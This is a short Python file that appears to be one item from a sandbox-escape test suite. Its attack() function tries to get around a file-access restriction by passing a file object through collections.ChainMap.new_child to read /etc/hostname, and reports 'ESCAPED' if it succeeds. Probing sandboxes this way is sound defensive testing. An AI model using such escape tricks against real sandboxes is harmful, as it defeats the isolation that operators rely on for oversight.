"""No library method opens a file for an app by the class of one that is open."""

CLASS = "files"
BOUNDARY = "both"
NEEDS = ("collections",)


import collections


def attack():
    file = open(__file__, "rb", 0)
    file.maps = ()
    return "ESCAPED: " + collections.ChainMap.new_child(file, "/etc/hostname").read(20).decode()
